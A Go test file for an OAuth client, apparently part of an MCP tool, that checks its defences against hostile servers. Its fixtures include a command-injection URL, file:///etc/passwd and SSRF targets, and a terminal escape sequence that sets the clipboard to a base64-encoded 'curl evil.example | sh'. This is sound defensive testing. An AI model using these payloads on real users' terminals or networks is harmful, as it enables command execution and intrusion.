package oauth

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// An endpoint of another scheme than https (or http on loopback), named by a server's
// metadata, is refused before it is used: not opened, not posted to, not fetched.
func TestEndpointsOnlyHTTPS(t *testing.T) {
	for name, tc := range map[string]struct {
		meta   map[string]any
		prmURL string
	}{
		"file authorization endpoint":       {meta: map[string]any{"authorization_endpoint": "file:///etc/passwd"}},
		"javascript authorization endpoint": {meta: map[string]any{"authorization_endpoint": "javascript:alert(1)//"}},
		"custom scheme":                     {meta: map[string]any{"authorization_endpoint": "ms-settings:display"}},
		"plain http to another machine":     {meta: map[string]any{"authorization_endpoint": "http://as.example/authorize"}},
		"a shell-quoted endpoint":           {meta: map[string]any{"authorization_endpoint": "https://as.example/a\"b`c"}},
		"user information":                  {meta: map[string]any{"authorization_endpoint": "https://127.0.0.1@as.example/authorize"}},
		"http token endpoint":               {meta: map[string]any{"token_endpoint": "http://as.example/token"}},
		"file registration endpoint":        {meta: map[string]any{"registration_endpoint": "file:///tmp/x"}},
		"resource metadata of a file":       {prmURL: "file:///etc/passwd"},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			w.asMeta, w.prmURL = tc.meta, tc.prmURL
			authorized := 0
			rt := &Transport{Config: &Config{RedirectURL: "http://127.0.0.1:9/callback", Authorize: func(ctx context.Context, authURL string) (*url.URL, error) {
				authorized++
				return FollowRedirect(nil)(ctx, authURL)
			}}}
			_, err := post(t, &http.Client{Transport: rt}, w.srv.URL+"/mcp")
			var oe *Error
			if !errors.As(err, &oe) || oe.Step != "discovery" {
				t.Errorf("got %v, want a discovery *oauth.Error", err)
			}
			if authorized != 0 || len(w.registered) != 0 || len(w.tokenForms) != 0 {
				t.Errorf("used anyway: %d authorizations, %d registrations, %d token requests", authorized, len(w.registered), len(w.tokenForms))
			}
		})
	}
}

func TestCheckEndpoint(t *testing.T) {
	for _, good := range []string{"https://as.example/token", "https://as.example:8443/t?x=1", "http://127.0.0.1:8080/cb", "http://[::1]:9/x", "http://localhost:3000/token"} {
		if err := CheckEndpoint(good); err != nil {
			t.Errorf("%s: %v", good, err)
		}
	}
	for _, bad := range []string{"", "/token", "file:///etc/passwd", "javascript:alert(1)", "http://as.example/token", "http://10.0.0.1/x",
		"https://u:p@as.example/", "https:///path", "https://as.example/x#frag", "http://127.0.0.1.evil.example/x", "ftp://as.example/", "http://app.localhost/x", "http://localhost./x"} {
		if err := CheckEndpoint(bad); err == nil {
			t.Errorf("%q: accepted", bad)
		}
	}
}

// Loopback hands nothing but a plain https (or loopback http) URL to the browser.
func TestLoopbackOpensOnlyHTTPS(t *testing.T) {
	dir := t.TempDir()
	opened := filepath.Join(dir, "opened")
	browser := filepath.Join(dir, "browser")
	if err := os.WriteFile(browser, []byte("#!/bin/sh\necho \"$1\" >> "+opened+"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("BROWSER", browser)
	l, err := NewLoopback(&strings.Builder{})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	for _, bad := range []string{"file:///etc/passwd?state=s", "http://as.example/authorize?state=s", "https://as.example/a b?state=s", "https://as.example/$(id)`id`?state=s"} {
		ctx, cancel := context.WithTimeout(context.Background(), 300*time.Millisecond)
		_, err := l.Authorize(ctx, bad)
		cancel()
		if err == nil || errors.Is(err, context.DeadlineExceeded) {
			t.Errorf("%q: %v, want it refused at once", bad, err)
		}
	}
	time.Sleep(100 * time.Millisecond) // a browser started would have written by now
	if data, err := os.ReadFile(opened); err == nil {
		t.Errorf("the browser opened:\n%s", data)
	}
}

// A client registered with one authorization server (A) is used there only: the server
// whose metadata names another one (B) gets no secret, no Basic header, no assertion and no
// signed client assertion; B gets a dynamically registered client instead, or, for the
// grants without a person, nothing at all.
func TestCredentialsGoToTheirIssuerOnly(t *testing.T) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	a, b := newWorld(t), newWorld(t)
	issuerA := a.srv.URL + "/as"
	var assertedFor []string
	assertion := func(_ context.Context, issuer, _ string) (string, error) {
		assertedFor = append(assertedFor, issuer)
		return "workload-jwt-for-a", nil
	}
	// noSecrets fails when anything of A's client reached B.
	noSecrets := func(t *testing.T) {
		t.Helper()
		for i, f := range b.tokenForms {
			if b.tokenAuth[i] != "" || f.Has("client_secret") || f.Has("client_assertion") || f.Has("assertion") || f.Get("client_id") == "pre" || f.Get("client_id") == "svc" {
				t.Errorf("B's token endpoint got %v, Authorization %q", f, b.tokenAuth[i])
			}
		}
		if slices.Contains(assertedFor, b.srv.URL+"/as") {
			t.Errorf("an assertion was made for B: %v", assertedFor)
		}
	}

	// The authorization code flow: A's pre-registered confidential client at A, a
	// dynamically registered one at B.
	rt := &Transport{Config: &Config{Clients: []Client{{Issuer: issuerA, ID: "pre", Secret: "s3cret", Resources: []string{a.srv.URL + "/mcp"}}},
		RedirectURL: "http://127.0.0.1:9/callback", Authorize: FollowRedirect(nil)}}
	c := &http.Client{Transport: rt}
	if _, err := post(t, c, a.srv.URL+"/mcp"); err != nil {
		t.Fatal(err)
	}
	if id, secret, _ := parseBasic(a.tokenAuth[0]); id != "pre" || secret != "s3cret" || len(a.registered) != 0 {
		t.Errorf("A: Basic %q:%q, %d registrations", id, secret, len(a.registered))
	}
	if _, err := post(t, c, b.srv.URL+"/mcp"); err != nil {
		t.Fatal(err)
	}
	if len(b.registered) != 1 || len(b.tokenForms) != 1 || b.tokenForms[0].Get("client_id") != "dyn-client" {
		t.Errorf("B: %d registrations, token requests %v", len(b.registered), b.tokenForms)
	}
	noSecrets(t)

	// The grants without a person: B gets no request at all, and the error says why.
	for name, cl := range map[string]Client{
		"client secret":  {Issuer: issuerA, ID: "svc", Secret: "s3cret"},
		"private key":    {Issuer: issuerA, ID: "svc", PrivateKey: key},
		"jwt bearer":     {Issuer: issuerA, ID: "svc", Assertion: assertion},
		"id-jag, secret": {Issuer: issuerA, ID: "svc", Secret: "s3cret", Assertion: assertion},
	} {
		// For both servers: the issuer alone keeps the credentials from B.
		cl.Resources = []string{a.srv.URL + "/mcp", b.srv.URL + "/mcp"}
		grant := GrantClientCredentials
		if cl.Assertion != nil {
			grant = GrantJWTBearer
		}
		before := len(b.tokenForms)
		rt := &Transport{Config: &Config{Grant: grant, Clients: []Client{cl}}}
		_, err := post(t, &http.Client{Transport: rt}, b.srv.URL+"/mcp")
		if err == nil || !strings.Contains(err.Error(), "none is configured for it") {
			t.Errorf("%s at B: %v", name, err)
		}
		if len(b.tokenForms) != before {
			t.Errorf("%s: B's token endpoint was asked", name)
		}
		// At A, the same configuration gets its token.
		if _, err := post(t, &http.Client{Transport: rt}, a.srv.URL+"/mcp"); err != nil {
			t.Errorf("%s at A: %v", name, err)
		}
	}
	noSecrets(t)
	if len(assertedFor) != 2 || assertedFor[0] != issuerA {
		t.Errorf("assertions made for %v, want A twice", assertedFor)
	}
}

func parseBasic(h string) (id, secret string, ok bool) {
	r := &http.Request{Header: http.Header{"Authorization": {h}}}
	id, secret, ok = r.BasicAuth()
	id, _ = url.QueryUnescape(id)
	secret, _ = url.QueryUnescape(secret)
	return id, secret, ok
}

// A configured client without an issuer or without the servers it is for, or two for one
// issuer and one server, is an error that says what to set, before anything is sent.
func TestClientsNeedAnIssuerAndTheirServers(t *testing.T) {
	w := newWorld(t)
	issuer, mcp := w.srv.URL+"/as", []string{w.srv.URL + "/mcp"}
	for name, tc := range map[string]struct {
		clients []Client
		want    string
	}{
		"no issuer":                {[]Client{{ID: "pre", Secret: "s3cret", Resources: mcp}}, "has no Issuer"},
		"an http issuer":           {[]Client{{Issuer: "http://as.example", ID: "pre", Resources: mcp}}, "plain http"},
		"neither id nor jwt":       {[]Client{{Issuer: issuer, Resources: mcp}}, "has no ID"},
		"no servers":               {[]Client{{Issuer: issuer, ID: "pre", Secret: "s3cret"}}, "has no Resources"},
		"a server that is no URL":  {[]Client{{Issuer: issuer, ID: "pre", Resources: []string{"mcp.example.com"}}}, "not an http or https URL"},
		"a server with a query":    {[]Client{{Issuer: issuer, ID: "pre", Resources: []string{w.srv.URL + "/mcp?x=1"}}}, "a query"},
		"one server twice":         {[]Client{{Issuer: issuer, ID: "a", Resources: mcp}, {Issuer: issuer, ID: "b", Resources: mcp}}, "both for"},
		"an origin and its server": {[]Client{{Issuer: issuer, ID: "a", Resources: mcp}, {Issuer: issuer, ID: "b", Resources: []string{w.srv.URL}}}, "both for"},
	} {
		rt := &Transport{Config: &Config{Clients: tc.clients, RedirectURL: "http://127.0.0.1:9/callback", Authorize: FollowRedirect(nil)}}
		_, err := post(t, &http.Client{Transport: rt}, w.srv.URL+"/mcp")
		var oe *Error
		if !errors.As(err, &oe) || oe.Step != "configuration" || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: %v, want a configuration error about %q", name, err, tc.want)
		}
	}
	if len(w.tokenForms) != 0 || len(w.registered) != 0 {
		t.Errorf("sent anyway: %d token requests, %d registrations", len(w.tokenForms), len(w.registered))
	}
}

// A client configured for an authorization server (A) and a server (a) gets tokens for that
// server only. A hostile server whose metadata names A does not get a token obtained with
// it: for the grants without a person A is not asked at all, and in the authorization code
// flow the client registers at A as for any other server, its secret staying home (A may
// ignore the resource indicator, and a token for the hostile server would then be good at
// a too). Two clients of one issuer, for two servers, are each used for their own.
func TestConfiguredClientsServeTheirServersOnly(t *testing.T) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	a := newWorld(t)
	issuerA, serverA := a.srv.URL+"/as", a.srv.URL+"/mcp"
	var mu sync.Mutex
	var got []string // the Authorization headers the hostile server received
	var hostile *httptest.Server
	hostile = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/prm" {
			json.NewEncoder(w).Encode(map[string]any{"resource": hostile.URL + "/mcp", "authorization_servers": []string{issuerA}})
			return
		}
		if auth := r.Header.Get("Authorization"); auth != "" {
			mu.Lock()
			got = append(got, auth)
			mu.Unlock()
			return
		}
		w.Header().Set("WWW-Authenticate", `Bearer resource_metadata="`+hostile.URL+`/prm"`)
		w.WriteHeader(http.StatusUnauthorized)
	}))
	defer hostile.Close()
	var assertedFor []string
	assertion := func(_ context.Context, _, resource string) (string, error) {
		assertedFor = append(assertedFor, resource)
		return "workload-jwt", nil
	}

	for name, cl := range map[string]Client{
		"client secret": {Issuer: issuerA, ID: "svc", Secret: "s3cret"},
		"private key":   {Issuer: issuerA, ID: "svc", PrivateKey: key},
		"jwt bearer":    {Issuer: issuerA, ID: "svc", Assertion: assertion},
	} {
		cl.Resources = []string{serverA}
		grant := GrantClientCredentials
		if cl.Assertion != nil {
			grant = GrantJWTBearer
		}
		rt := &Transport{Config: &Config{Grant: grant, Clients: []Client{cl}}}
		before := len(a.tokenForms)
		_, err := post(t, &http.Client{Transport: rt}, hostile.URL+"/mcp")
		if err == nil || !strings.Contains(err.Error(), "none is configured for it") {
			t.Errorf("%s at the hostile server: %v", name, err)
		}
		if len(a.tokenForms) != before {
			t.Errorf("%s: A's token endpoint was asked for the hostile server: %v", name, a.tokenForms[before:])
		}
		if _, err := post(t, &http.Client{Transport: rt}, serverA); err != nil {
			t.Errorf("%s at a: %v", name, err)
		}
	}
	if len(assertedFor) != 1 || assertedFor[0] != serverA {
		t.Errorf("assertions made for %v, want a once", assertedFor)
	}
	mu.Lock()
	if len(got) > 0 {
		t.Errorf("the hostile server got %v", got)
	}
	mu.Unlock()

	// The authorization code flow: A's confidential client at a; at the hostile server a
	// client registered dynamically, without the secret.
	rt := &Transport{Config: &Config{Clients: []Client{{Issuer: issuerA, ID: "pre", Secret: "s3cret", Resources: []string{serverA}}},
		RedirectURL: "http://127.0.0.1:9/callback", Authorize: FollowRedirect(nil)}}
	c := &http.Client{Transport: rt}
	before := len(a.tokenForms)
	if _, err := post(t, c, hostile.URL+"/mcp"); err != nil {
		t.Fatal(err)
	}
	if f := a.tokenForms[before]; len(a.registered) != 1 || a.tokenAuth[before] != "" || f.Get("client_id") != "dyn-client" || f.Has("client_secret") {
		t.Errorf("the hostile server's token request: %v, Authorization %q, %d registrations", f, a.tokenAuth[before], len(a.registered))
	}
	if _, err := post(t, c, serverA); err != nil {
		t.Fatal(err)
	}
	if id, secret, _ := parseBasic(a.tokenAuth[len(a.tokenAuth)-1]); id != "pre" || secret != "s3cret" {
		t.Errorf("a's token request: Basic %q:%q", id, secret)
	}

	// Two clients of A, one for each server.
	rt = &Transport{Config: &Config{Clients: []Client{
		{Issuer: issuerA, ID: "pre", Secret: "s3cret", Resources: []string{serverA}},
		{Issuer: issuerA, ID: "for-hostile", Resources: []string{hostile.URL}},
	}, RedirectURL: "http://127.0.0.1:9/callback", Authorize: FollowRedirect(nil)}}
	c = &http.Client{Transport: rt}
	for _, tc := range []struct{ url, id string }{{hostile.URL + "/mcp", "for-hostile"}, {serverA, "pre"}} {
		before := len(a.tokenForms)
		if _, err := post(t, c, tc.url); err != nil {
			t.Fatal(err)
		}
		f, auth := a.tokenForms[before], a.tokenAuth[before]
		if id, _, _ := parseBasic(auth); f.Get("client_id") != tc.id && id != tc.id {
			t.Errorf("%s: token request %v, Authorization %q, want the client %s", tc.url, f, auth, tc.id)
		}
	}
	if len(a.registered) != 1 {
		t.Errorf("%d registrations, want the one of the flow above", len(a.registered))
	}
}

// A server on the public internet cannot make the client fetch from the user's machine or
// network: its challenge's resource_metadata must be https (or on its own origin), and no
// request of its authorization connects to a loopback, private or link-local address,
// checked on the address dialled, after the name is resolved. A server on such an address
// may name others there; an authorization server the user configured a client for is
// trusted.
func TestNoRequestsIntoTheUsersNetwork(t *testing.T) {
	// The test's "public internet" is 127.0.0.2; 127.0.0.1 is the user's machine.
	publicAddr = func(a netip.Addr) bool { return a == netip.MustParseAddr("127.0.0.2") }
	t.Cleanup(func() { publicAddr = isPublicAddr })

	var hits []string
	var mu sync.Mutex
	victim := func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		hits = append(hits, r.URL.Path)
		mu.Unlock()
		http.NotFound(w, r)
	}
	tlsVictim := httptest.NewTLSServer(http.HandlerFunc(victim)) // on 127.0.0.1
	defer tlsVictim.Close()
	httpVictim := httptest.NewServer(http.HandlerFunc(victim))
	defer httpVictim.Close()
	port := tlsVictim.Listener.Addr().(*net.TCPAddr).Port
	// The client trusts the victim's certificate, under a name it holds: only the address
	// dialled keeps the request from it.
	tr := tlsVictim.Client().Transport.(*http.Transport).Clone()
	tr.TLSClientConfig.ServerName = "example.com"
	hc := &http.Client{Transport: tr}

	// mcpServer serves a protected MCP endpoint on addr whose challenge names prm, and its
	// own resource metadata naming the authorization server as.
	mcpServer := func(addr, prm, as string) string {
		ln, err := net.Listen("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		srv := httptest.NewUnstartedServer(nil)
		srv.Listener.Close()
		srv.Listener = ln
		srv.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/prm" {
				json.NewEncoder(w).Encode(map[string]any{"resource": "http://" + r.Host + "/mcp", "authorization_servers": []string{as}})
				return
			}
			if prm == "" {
				prm = "http://" + r.Host + "/prm"
			}
			w.Header().Set("WWW-Authenticate", `Bearer resource_metadata="`+prm+`"`)
			w.WriteHeader(http.StatusUnauthorized)
		})
		srv.Start()
		t.Cleanup(srv.Close)
		return srv.URL + "/mcp"
	}
	for name, tc := range map[string]struct {
		addr, prm, as string
		clients       []Client
		reached       bool
	}{
		"metadata on localhost, by name": {addr: "127.0.0.2:0", prm: fmt.Sprintf("https://localhost:%d/admin/delete-all", port)},
		"metadata on a loopback address": {addr: "127.0.0.2:0", prm: tlsVictim.URL + "/admin/delete-all"},
		"plain http metadata elsewhere":  {addr: "127.0.0.2:0", prm: httpVictim.URL + "/admin/delete-all"},
		"an authorization server there":  {addr: "127.0.0.2:0", as: fmt.Sprintf("https://localhost:%d", port)},
		"the user's own issuer":          {addr: "127.0.0.2:0", as: fmt.Sprintf("https://localhost:%d", port), clients: []Client{{Issuer: fmt.Sprintf("https://localhost:%d", port), ID: "mine"}}, reached: true},
		"a server on the user's machine": {addr: "127.0.0.1:0", prm: fmt.Sprintf("https://localhost:%d/prm", port), reached: true},
	} {
		t.Run(name, func(t *testing.T) {
			mu.Lock()
			hits = nil
			mu.Unlock()
			u := mcpServer(tc.addr, tc.prm, tc.as)
			for i := range tc.clients {
				tc.clients[i].Resources = []string{u}
			}
			rt := &Transport{Config: &Config{HTTPClient: hc, Clients: tc.clients, RedirectURL: "http://127.0.0.1:9/callback", Authorize: FollowRedirect(nil)}}
			_, err := post(t, &http.Client{Transport: rt}, u)
			var oe *Error
			if !errors.As(err, &oe) {
				t.Fatalf("got %v, want an *oauth.Error", err)
			}
			mu.Lock()
			defer mu.Unlock()
			if reached := len(hits) > 0; reached != tc.reached {
				t.Errorf("the user's network was reached: %v (%v), want %v", hits, err, tc.reached)
			}
			if !tc.reached && !strings.Contains(err.Error(), "refused") {
				t.Errorf("the error does not say it refused: %v", err)
			}
		})
	}
}

// The loopback redirect listener takes only the response of the authorization it waits
// for (its state): another local process that calls first gets 400, and the flow waits on.
func TestLoopbackTakesOnlyItsState(t *testing.T) {
	dir := t.TempDir()
	opened := filepath.Join(dir, "opened")
	browser := filepath.Join(dir, "browser")
	if err := os.WriteFile(browser, []byte("#!/bin/sh\ntouch "+opened+"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("BROWSER", browser)
	l, err := NewLoopback(&strings.Builder{})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	get := func(query string) int {
		resp, err := http.Get(l.RedirectURL() + query)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	if code := get("?code=early&state=s1"); code != http.StatusBadRequest {
		t.Errorf("a response before any authorization: %d", code)
	}
	type result struct {
		u   *url.URL
		err error
	}
	done := make(chan result, 1)
	go func() {
		u, err := l.Authorize(context.Background(), "https://as.example/authorize?client_id=c&state=s1")
		done <- result{u, err}
	}()
	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(10 * time.Millisecond) {
		if _, err := os.Stat(opened); err == nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the browser was not opened")
		}
	}
	for _, q := range []string{"?code=evil&state=other", "?code=evil", "?error=access_denied&state=s2"} {
		if code := get(q); code != http.StatusBadRequest {
			t.Errorf("%s: %d, want 400", q, code)
		}
	}
	select {
	case r := <-done:
		t.Fatalf("the flow took another's response: %v %v", r.u, r.err)
	default:
	}
	if code := get("?code=good&state=s1"); code != http.StatusOK {
		t.Errorf("the flow's own response: %d", code)
	}
	r := <-done
	if r.err != nil || r.u.Query().Get("code") != "good" {
		t.Errorf("got %v %v", r.u, r.err)
	}
	if code := get("?code=again&state=s1"); code != http.StatusBadRequest {
		t.Errorf("a second response for a finished flow: %d", code)
	}
}

// What a hostile authorization server answers goes into the client's errors, which mcpgen
// prints on the user's terminal: its control characters arrive escaped, as text, so that
// no escape sequence rewrites what the terminal shows or sets the clipboard (OSC 52).
func TestServerTextInErrorsIsEscaped(t *testing.T) {
	const evil = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2K\rall good"
	hostile := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusBadRequest)
		if r.URL.Path == "/token" {
			json.NewEncoder(w).Encode(map[string]string{"error": "invalid_grant", "error_description": evil})
			return
		}
		w.Write([]byte(evil))
	}))
	defer hostile.Close()
	for name, tc := range map[string]struct {
		meta      map[string]any
		authorize func(w *world) func(context.Context, string) (*url.URL, error)
	}{
		"a registration endpoint's body": {meta: map[string]any{"registration_endpoint": hostile.URL + "/register"}},
		"a token endpoint's error":       {meta: map[string]any{"token_endpoint": hostile.URL + "/token"}},
		"a token endpoint's body":        {meta: map[string]any{"token_endpoint": hostile.URL + "/other"}},
		"an authorization response's error": {authorize: func(w *world) func(context.Context, string) (*url.URL, error) {
			return func(context.Context, string) (*url.URL, error) {
				return url.Parse("http://127.0.0.1:9/callback?" + url.Values{"iss": {w.srv.URL + "/as"}, "error": {"access_denied"}, "error_description": {evil}}.Encode())
			}
		}},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			w.asMeta = tc.meta
			c, rt := w.client()
			if tc.authorize != nil {
				rt.Config.Authorize = tc.authorize(w)
			}
			_, err := post(t, c, w.srv.URL+"/mcp")
			if err == nil {
				t.Fatal("no error")
			}
			if strings.ContainsAny(err.Error(), "\x1b\x07\r") {
				t.Errorf("the error carries the server's control characters: %q", err.Error())
			}
			if !strings.Contains(err.Error(), `\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a\x1b[2K\rall good`) {
				t.Errorf("the error does not show what the server said, escaped: %q", err.Error())
			}
		})
	}
}
